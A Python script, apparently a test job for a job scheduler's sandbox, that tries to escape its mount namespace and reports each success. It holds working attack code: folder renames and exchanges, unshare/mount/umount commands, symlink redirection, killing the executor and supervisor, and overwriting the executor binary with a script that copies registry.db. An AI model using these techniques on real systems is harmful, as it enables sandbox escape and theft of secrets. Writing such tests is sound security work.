#!/usr/bin/env python3
"""A job that tries to leave its mount namespace, and says what it achieved. BREAKER_DIR is the server's data folder, BREAKER_HOME a folder that
both are below, and BREAKER_FILE a hidden file. Its argument is the attack."""
import ctypes
import os
import signal
import stat
import subprocess
import sys
import time

data, home, hidden = os.environ["BREAKER_DIR"], os.environ["BREAKER_HOME"], os.environ["BREAKER_FILE"]
sandbox = os.path.dirname(os.path.dirname(os.environ["ELASTICJOB_WORK_DIR"]))
libc = ctypes.CDLL(None, use_errno=True)
EXCHANGE = 2


def got(what):
    print("GOT", what, flush=True)


def attempt(what, deed):
    try:
        deed()
    except (OSError, subprocess.SubprocessError):
        return False
    got(what)
    return True


def above(path):
    while (path := os.path.dirname(path)) != home and path.startswith(home):
        yield path


def exchange(one, other):
    if libc.renameat2(-100, one.encode(), -100, other.encode(), EXCHANGE) != 0:
        raise OSError(ctypes.get_errno(), "refused")


def move_folders():
    """Puts others in the place of the data folder, the hidden file, the server's programs, and the folders above them."""
    programs = [os.path.join(home, "programs", name) for name in ("scheduler", "executor")]
    for path in [data, hidden, *programs, *above(data), *above(hidden), *above(programs[0])]:
        away = home + "/away"
        if attempt(f"rename of {path}", lambda: os.rename(path, away)):
            os.rename(away, path)
        other = home + "/other"
        if os.access(home, os.W_OK):
            os.makedirs(other, exist_ok=True)
        if attempt(f"exchange of {path}", lambda: exchange(other, path)):
            exchange(other, path)
        # In a namespace of its own a job is root of what it sees.
        for tool in (f"python3 -c 'import os; os.rename(\"{path}\", \"{away}\")'", f"umount {path}", f"umount -l {path}", f"mount --bind {home} /mnt && cat /mnt/above/data/registry.db",
                     f"mount --rbind / /mnt && umount -l /mnt{path} && cat /mnt{data}/registry.db", f"mount -o remount,rw {path} && touch {path}/planted"):
            inside = ["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", tool]
            if attempt(f"'{tool}' in a namespace", lambda: subprocess.run(inside, check=True, capture_output=True, timeout=60)) and os.path.exists(away):
                os.rename(away, path)


def link_folders():
    """Has the executor's folders lead into the data folder."""
    cache = next((os.path.join(at, name) for at in [os.path.join(data, "cluster", "work")] for name in
                  (os.listdir(at) if os.path.isdir(at) and os.access(at, os.R_OK) else []) if name.startswith("elasticjob-cache")), None)
    targets = [os.path.join(sandbox, name) for name in ("tasks", "work", "tmp", "failed", "packages")]
    targets += [os.path.join(cache, name) for name in ("content", "urls", "whole", "tmp", "locks")] if cache else []
    for i, path in enumerate(targets):
        to = data if i % 2 else os.path.join(data, "artifacts")
        try:
            if os.path.lexists(path):
                os.rename(path, path + ".away")
            os.symlink(to, path)
        except OSError:
            continue
        print("LINKED", path, flush=True)
    # One that only the executor could follow, if it had a folder open that is hidden.
    for fd in range(3, 20):
        try:
            os.symlink(f"/proc/self/fd/{fd}", os.path.join(sandbox, "tmp", str(fd)))
        except OSError:
            pass


def overwrite_executor():
    """Outlives the executor and its supervisor, and changes the program that others are started from."""
    if os.path.exists(home + "/attacked"):
        return
    supervisor = os.getppid()
    with open(f"/proc/{supervisor}/stat", encoding="utf-8", errors="replace") as file:
        executor = int(file.read().rpartition(")")[2].split()[1])
    if os.fork() == 0:
        os.setsid()
        os.environ.clear()
        # Each of the two kills this process when it notices the end of the other, so the executor is stopped first.
        for pid, sent in (executor, signal.SIGSTOP), (supervisor, signal.SIGKILL), (executor, signal.SIGKILL):
            try:
                os.kill(pid, sent)
            except OSError:
                pass
        path = sandbox + "/executor"
        for _ in range(200):
            try:
                before = os.stat(path)
                os.chmod(path, 0o755)
                script = f"#!/bin/sh\ncat {data}/registry.db >{home}/stolen\ntouch {home}/evil\nexec sleep 1\n".encode()
                with open(path, "r+b") as file:
                    file.write(script + b"#" * (before.st_size - len(script)))
                os.chmod(path, stat.S_IMODE(before.st_mode))
                os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
                break
            except FileNotFoundError:
                break
            except OSError:  # it still runs
                time.sleep(0.05)
        open(home + "/attacked", "w").close()
        os._exit(0)
    time.sleep(600)


def read_secrets():
    """Looks for what the executor sees, and its tasks must not."""
    folder = os.path.join(data, "secrets")
    attempt("a list of secrets", lambda: os.stat(os.path.join(folder, (os.listdir(folder) + ["none"])[0])))
    attempt("a secret", lambda: open(os.path.join(folder, "given")).close())
    attempt("a new secret", lambda: open(os.path.join(folder, "planted"), "w").close())


print("SECRET", os.environ.get("GIVEN", ""), flush=True)
{"move": move_folders, "link": link_folders, "overwrite": overwrite_executor, "secrets": read_secrets}[sys.argv[1]]()
print("DONE", flush=True)
